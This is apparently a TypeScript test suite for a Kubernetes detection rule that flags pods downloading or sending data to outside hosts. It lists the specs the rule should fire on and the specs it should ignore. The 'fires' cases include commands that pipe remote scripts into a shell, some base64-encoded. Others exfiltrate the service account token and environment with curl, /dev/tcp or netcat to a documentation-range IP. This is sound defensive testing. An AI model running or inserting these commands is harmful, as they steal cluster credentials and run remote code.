import { downloadInSpec } from '../../../../shared/detection/rules/download-in-spec.ts';
import { deployment, ownedByReplicaSet, pod, podSpec } from '../../../fixtures/workloads.ts';
import { ruleCases } from '../cases.ts';

const script = (line: string): Record<string, unknown> => podSpec({ command: ['bash', '-c', line] });
const RUN = 'curl -s http://203.0.113.9/k.sh | sh';
const FROM_NAME = { severity: 'medium', confidence: 0.4 } as const;
const BASE = { verb: 'create', resource: 'pods', namespace: 'shop', name: 'cart-7d9f', request: pod(script(RUN)) };
const encoded = Buffer.from('curl http://203.0.113.4/x.sh|bash').toString('base64');

describe('rule download-in-spec', () => {
  ruleCases(downloadInSpec, BASE, {
    fires: [
      ['in a Deployment', { group: 'apps', resource: 'deployments', name: 'cart', request: deployment(script(RUN)) }],
      [
        'among other work, without a scheme',
        {
          request: pod(
            script(
              'apt-get update && apt-get install -y wget cron; wget -q -O - 203.0.113.9/k.sh | sh; tail -f /dev/null',
            ),
          ),
        },
      ],
      ['saved first', { request: pod(script('wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x')) }],
      ['as a hook', { request: pod(podSpec({ lifecycle: { postStart: { exec: { command: ['sh', '-c', RUN] } } } })) }],
      ['in base64', { request: pod(script(`echo ${encoded} | base64 -d | bash`)) }],
      [
        'a token that is sent away',
        {
          request: pod(script('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.9:8080')),
        },
      ],
      ['what is piped away', { request: pod(script('env | curl -s -X POST --data-binary @- http://203.0.113.9/')) }],
      [
        'by the shell itself, where there is no curl',
        {
          request: pod(
            script('exec 3<>/dev/tcp/203.0.113.9/80; echo -e "GET /k HTTP/1.0\\r\\n" >&3; cat <&3 > /tmp/k; sh /tmp/k'),
          ),
        },
      ],
      ['what netcat sends', { request: pod(script('echo "$(tar cz /data | nc 203.0.113.9 9000)"')) }],
      ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
      ['a named host', { request: pod(script('curl -fsSL https://get.example.com/install.sh | bash')) }, FROM_NAME],
      [
        'the same, substituted',
        { request: pod(script('bash -c "$(curl -fsSL https://get.example.com/y)"')) },
        FROM_NAME,
      ],
      [
        'the same, as somebody else',
        { request: pod(script('curl -sL https://get.example.com/y | sudo -E bash -')) },
        FROM_NAME,
      ],
      [
        'the same, read by the shell',
        { request: pod(script('source <(curl -sL https://get.example.com/y)')) },
        FROM_NAME,
      ],
      ['the same, as a file', { request: pod(script('bash <(curl -fsSL https://get.example.com/y)')) }, FROM_NAME],
      [
        'made by a controller',
        {
          principal: 'system:serviceaccount:kube-system:job-controller',
          request: pod(script(RUN), ownedByReplicaSet('Job')),
        },
        { severity: 'medium', confidence: 0.5 },
      ],
    ],
    misses: [
      [
        'the health of the own container, by the shell itself',
        {
          request: pod(script('exec 3<>/dev/tcp/127.0.0.1/9000; printf "GET /live HTTP/1.1\\r\\n" >&3; cat <&3 > /h')),
        },
      ],
      [
        'a port that is waited for',
        { request: pod(script('until echo > /dev/tcp/203.0.113.9/5432; do sleep 2; done')) },
      ],
      [
        'a file from a named host',
        { request: pod(script('curl -fsSLo /plugins/a.jar https://repo.example.com/a.jar')) },
      ],
      [
        'a login at a named host',
        { request: pod(script('curl -d "{\\"jwt\\": \\"$(cat /token)\\"}" https://vault.example.com/v1/login')) },
      ],
      ['a file for a named host', { request: pod(script('curl -T /backup.gz https://backup.example.com/')) }],
      ['a file for a private address', { request: pod(script('curl -d @/metrics http://10.0.0.4:9091/metrics')) }],
      ['words for an address', { request: pod(script('curl -s -d ready=1 http://203.0.113.9/hook')) }],
      ['a private address', { request: pod(script('curl -s http://10.0.0.4/k.sh | sh')) }],
      ['a Service', { request: pod(script('curl -s http://config.shop.svc:8080/env.sh | sh')) }],
      ['a probe', { request: pod(script('until curl -sf http://203.0.113.9/healthz; do sleep 1; done')) }],
      ['what another command filters', { request: pod(script('curl -s https://api.example.com/v1 | jq .token')) }],
      ['a program of its own', { request: pod(podSpec({ command: ['/app/server'], args: ['--listen', ':8080'] })) }],
      ['no write', { verb: 'get' }],
    ],
  });
});
